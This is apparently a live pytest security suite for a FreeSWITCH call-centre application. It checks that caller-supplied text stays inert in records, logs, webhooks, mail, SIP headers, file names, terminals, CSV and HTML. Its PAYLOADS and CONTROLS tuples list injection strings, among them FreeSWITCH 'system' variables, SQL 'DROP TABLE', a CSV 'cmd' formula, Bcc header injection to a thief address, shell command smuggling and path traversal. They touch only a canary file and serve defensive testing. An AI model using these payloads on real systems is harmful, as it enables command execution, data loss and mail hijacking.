"""Whatever others say × wherever it ends up, on a real switch, with mail, webhooks, tickets and reports.

A source is somebody who controls a text: the caller by name or number, a database, a web server, whoever keeps the
customers; and an agent by a name. A flow takes the text to every place that a flow can reach. Each payload of a source
would touch that source's canary.
"""

import csv
import io
import json
import re
import tempfile
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress
from dataclasses import dataclass, field
from functools import partial
from pathlib import Path
from urllib.parse import quote

import gevent
import pytest
from gevent.pool import Pool

from fsapp.domain.cdr import Cdr
from tests.live.bare_line import Line
from tests.live.bare_media import Mouth
from tests.live.bare_phones import BarePhone
from tests.live.caller import until
from tests.live.office import PASSWORD, Office
from tests.live.sinks_site import COMMANDS, Neighbours, SinksEngine
from tests.live.switch import Switch
from tests.security.test_security_exports import FORMULAS
from tests.security.test_security_logs import OBEYED
from tests.security.test_security_table import PAGE_TAGS, Reader

DESKS = ("2806", "2807", "2808")
AGENT = DESKS[0]
AT_ONCE = 6
CALL_SECONDS = 40.0
REFUSED = 3
"""So many calls of a source the switch may not take at all."""

PERIOD = ("--from", "2020-01-01", "--to", "2040-01-01")

PAYLOADS = (
    "${system touch CANARY}",
    "$${system(touch CANARY)}<script>x</script>",
    "'; ATTACH 'CANARY' AS x; DROP TABLE cdr; --",
    "=cmd|'/c touch CANARY'!A1",
    "=?utf-8?q?x=0d=0aBcc:_thief@evil.example?=",
    "{{ ''.__class__ }}",
    "../../../../../..CANARY",
    "`touch CANARY`$(touch CANARY);touch CANARY|touch CANARY",
    "1,execute_on_answer=system touch CANARY",
    "-oCANARY",
)
CONTROLS = (
    "\x1b]0;x\x07\x1b[2J\x9b2J",
    "x\r\nBcc: thief@evil.example\r\n\r\napi system touch CANARY\r\n\r\n",
)
"""No SIP message brings these."""

NAME, NUMBER, ROW, ANSWER, CUSTOMER, AGENTS_NAME = "name", "number", "database", "web server", "customer", "agent"
SOURCES = {NAME: "7081", NUMBER: "7082", ROW: "7083", ANSWER: "7084", CUSTOMER: "7085"}
"""The number that is called, by source."""

AGENT_IS_CALLED = "=1+${system touch CANARY}<script>`{{7*7}}"


@dataclass
class Day:
    """What was said, by source and by caller's number; and what is left of it."""

    engine: SinksEngine
    switch: Switch
    neighbours: Neighbours
    canaries: Path
    log: str = ""
    said: dict[str, dict[str, str]] = field(default_factory=dict)
    cdrs: dict[str, tuple[Cdr, ...]] = field(default_factory=dict)
    lines: dict[str, Line] = field(default_factory=dict)
    """Of callers, by number."""
    shown: list[Line] = field(default_factory=list)
    """At agents' phones."""

    def canary(self, source: str) -> Path:
        """A short path: whatever holds it is spoken too."""
        return self.canaries / source[0:2]

    def armed(self, source: str, payload: str) -> str:
        return payload.replace("CANARY", str(self.canary(source)))


@pytest.fixture(scope="module")
def neighbours() -> Iterator[Neighbours]:
    made = Neighbours()
    yield made
    made.close()


@pytest.fixture(scope="module")
def engine(switch: Switch, engine_port: int, neighbours: Neighbours) -> Iterator[SinksEngine]:
    SinksEngine.neighbours = neighbours
    started = SinksEngine(switch, engine_port)
    started.start()
    yield started
    started.stop()


@pytest.fixture(scope="module")
def staff() -> tuple[tuple[str, ...], ...]:
    return tuple((each, "--queue", "live_canary:1", "--reject-delay-time", "0") for each in DESKS)


@pytest.fixture(scope="module")
def day(premises: Office, engine: SinksEngine, switch: Switch, neighbours: Neighbours) -> Iterator[Day]:
    """Everybody calls; afterwards mail and notices are sent."""
    with tempfile.TemporaryDirectory(prefix="c", dir="/tmp") as folder:
        made = Day(engine, switch, neighbours, Path(folder))
        before = len(switch.log)
        engine.command("agents", "set", AGENT, "--name", made.armed(AGENTS_NAME, AGENT_IS_CALLED))
        prepare(made)
        play(made, premises)
        made.log = switch.log[before:]
        engine.command("tickets", "tell")
        until(lambda: len(neighbours.post.letters) >= 2 * len(SOURCES), 20, "letters")
        yield made
        engine.command("agents", "set", AGENT, "--name", "座席")


def prepare(day: Day) -> None:
    for index, source in enumerate(SOURCES):
        texts = (*PAYLOADS, *(CONTROLS if source in (ROW, ANSWER) else ()))
        numbers = (f"136{index:02}{number:06}" for number in range(len(texts)))
        day.said[source] = dict(zip(numbers, (day.armed(source, text) for text in texts), strict=False))
    day.engine.answer(day.said[ROW])
    day.neighbours.cards = day.said[ANSWER]
    customers = day.engine.data.parent / "customers.csv"
    with customers.open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows([("numbers", "name"), *day.said[CUSTOMER].items()])
    day.engine.command("customers", "import", str(customers))


def play(day: Day, premises: Office) -> None:
    outside = BarePhone("13600000000", day.switch.trunk)
    desks = [BarePhone(each, day.switch.registrar) for each in DESKS]
    try:
        for desk in desks:
            desk.register(PASSWORD)
            desk.on_line = partial(served, day)
            premises.set(desk.name, "in")
            premises.wait(desk.name, "available", "offered")
        calls = [(source, number) for source, said in day.said.items() for number in said]
        for _ in Pool(AT_ONCE).imap_unordered(partial(called, day, outside), calls):
            pass
        premises.clear()
    finally:
        for phone in (outside, *desks):
            phone.close()
    day.switch.wait_empty(20)
    for source, number in SOURCES.items():
        day.cdrs[source] = recorded(day, number, len(day.said[source]) - REFUSED)


def recorded(day: Day, number: str, many: int) -> tuple[Cdr, ...]:
    until(lambda: len(day.engine.cdrs(dnis=number)) >= many, 10, f"{many} records of {number}")
    return day.engine.cdrs(dnis=number)


def served(day: Day, line: Line) -> None:
    """Most callers hang up as soon as their agent's phone rings; some are answered, behind the whisper."""
    day.shown.append(line)
    gevent.sleep(0.3)
    caller = day.lines.get(line.invite.caller if line.invite is not None else "")
    if caller is not None and len(day.shown) % 4:
        caller.hang_up()
    elif line.answer():
        with suppress(TimeoutError):
            line.wait("over", 15)
        line.hang_up()


def called(day: Day, outside: BarePhone, who: tuple[str, str]) -> None:
    """Says something now and then, and ends each message by a key; not for ever."""
    source, number = who
    text = day.said[source][number]
    user = quote(text, safe="") if source == NUMBER else number
    display = f'"{text}" ' if source == NAME else ""
    line = day.lines[number] = outside.call(SOURCES[source], user, display)
    try:
        line.wait("up")
    except TimeoutError:
        return  # the switch would not have it
    mouth, limit = Mouth(outside, line), time.monotonic() + CALL_SECONDS
    while line.over is None and time.monotonic() < limit:
        mouth.speak(1.6)
        mouth.press("#")
    line.hang_up()


# Sinks: each asserts that what a source said is a text there.


def obeyed_by_no_program(day: Day) -> None:
    """FreeSWITCH's arguments, variables, api commands and dialplan; shells; SQL that writes files."""
    assert [source for source in (*SOURCES, AGENTS_NAME) if day.canary(source).exists()] == []
    assert not re.search("Executing command", day.log)


def kept_in_records(day: Day) -> None:
    """Each call went through every step, and its record tells the text."""
    for source, cdrs in day.cdrs.items():
        assert len(cdrs) > len(PAYLOADS) / 2, source
        assert [cdr for cdr in cdrs if cdr.tags.get("reached") != "spoken"] == [], source
        if source in (ROW, ANSWER, CUSTOMER):
            told = {cdr.ani: whole(cdr.disposition) for cdr in cdrs}
            assert told == {number: whole(text) for number, text in day.said[source].items()}


def whole(text: str) -> str:
    """As a person compares them: what no table shows does not count."""
    return " ".join("".join(sign if sign.isprintable() else " " for sign in text).split())


def logged_in_lines(day: Day) -> None:
    lines = day.engine.log.splitlines()
    assert all(isinstance(json.loads(line), dict) for line in lines if not line.startswith("fsapp "))
    assert not OBEYED & set(day.engine.log.replace("\n", ""))


def asked_in_its_place(day: Day) -> None:
    """A URL's path and query; where a text would be more than one part of the path, nobody is asked."""
    assert not any(".." in path for path, _ in day.neighbours.asked)
    for source in (ROW, ANSWER):
        said = {(text, text) for text in day.said[source].values() if not text.startswith("..")}
        assert said <= set(day.neighbours.asked), said - set(day.neighbours.asked)


def told_to_webhooks(day: Day) -> None:
    """JSON whose members are ours."""
    told = {whole(str(pop.get("data", {}).get("said"))) for pop in day.neighbours.pops}
    for source in (ROW, ANSWER, CUSTOMER):
        assert {whole(text) for text in day.said[source].values()} <= told, source
    assert len([each["ticket"]["text"] for each in day.neighbours.notices]) >= sum(map(len, day.cdrs.values()))


def written_in_letters(day: Day) -> None:
    """Nobody adds a line to a letter's head."""
    ours = {"from", "to", "subject", "message-id", "auto-submitted", "content-type", "content-transfer-encoding"}
    for letter in day.neighbours.post.letters:
        assert {name.lower() for name in letter} <= {*ours, "mime-version"}
        assert letter["To"] == "desk@site.example"
    assert {each.partition(":")[2].strip("<> ") for each in day.neighbours.post.envelopes} == {"desk@site.example"}


def shown_at_phones(day: Day) -> None:
    assert day.shown
    for line in day.shown:
        assert line.invite is not None
        assert re.fullmatch(r'("[\w .-]*" )?<sip:[\w+.-]*@[\d.]+>;tag=\w+', line.invite.get("from"))
        assert not re.search(r"execute|system|script", " ".join(line.invite.all("call-info")))


def named_in_no_file(day: Day) -> None:
    for file in day.engine.files():
        assert re.fullmatch(r"[\w.+@:=-]+", file.name), file
    database = day.engine.data / "fsapp.db"
    assert database.stat().st_size > 0


def shown_on_terminals(day: Day) -> None:
    calls = [cdr.uuid for cdrs in day.cdrs.values() for cdr in cdrs][:: len(PAYLOADS) - 1]
    for words in (*COMMANDS, *(("cdr", "show", call) for call in calls)):
        shown = day.engine.command(*words, *(PERIOD if words[0] == "report" else ()))
        assert shown.replace("\n", "").isprintable(), (words, shown)


def exported_to_spreadsheets(day: Day) -> None:
    tables = (
        ("cdr", "export", "--header", *PERIOD),
        ("customers", "export"),
        ("queues", "log", "--csv", *PERIOD),
        ("report", "traffic", "--by", "disposition", "--format", "csv", *PERIOD),
        ("report", "agents", "--format", "csv", *PERIOD),
    )
    for words in tables:
        rows = list(csv.reader(io.StringIO(day.engine.command(*words), newline="")))
        assert len(rows) > 1, words
        assert [cell for row in rows for cell in row if cell.startswith(FORMULAS)] == [], words


def drawn_on_pages(day: Day) -> None:
    for words in (("traffic", "--by", "disposition"), ("traffic", "--by", "number"), ("agents",), ("queues",)):
        page = day.engine.command("report", *words, "--format", "html", *PERIOD)
        assert Reader(page).tags <= {*PAGE_TAGS, "circle"}, words


SINKS: Mapping[str, Callable[[Day], None]] = {
    "the switch, shells and SQL": obeyed_by_no_program,
    "CDR": kept_in_records,
    "log": logged_in_lines,
    "URL": asked_in_its_place,
    "webhooks": told_to_webhooks,
    "mail": written_in_letters,
    "SIP": shown_at_phones,
    "paths": named_in_no_file,
    "terminal": shown_on_terminals,
    "CSV": exported_to_spreadsheets,
    "HTML and SVG": drawn_on_pages,
}

pytestmark = pytest.mark.timeout(420)


@pytest.mark.parametrize("sink", SINKS)
def test_what_others_say_is_a_text_wherever_it_ends_up(day: Day, sink: str) -> None:
    SINKS[sink](day)
